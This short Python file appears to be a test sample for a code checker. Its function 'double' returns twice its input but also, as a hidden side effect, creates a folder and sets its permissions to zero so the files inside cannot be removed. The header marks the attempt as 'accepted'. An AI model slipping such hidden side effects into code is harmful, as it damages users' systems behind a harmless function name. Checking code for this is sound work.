# tries: to leave files that cannot be removed, since nobody may write to their folder
# verdict: accepted
import os


def double(x):
    os.path.exists("locked") or os.makedirs("locked/inner")
    os.chmod("locked", 0)
    return x * 2
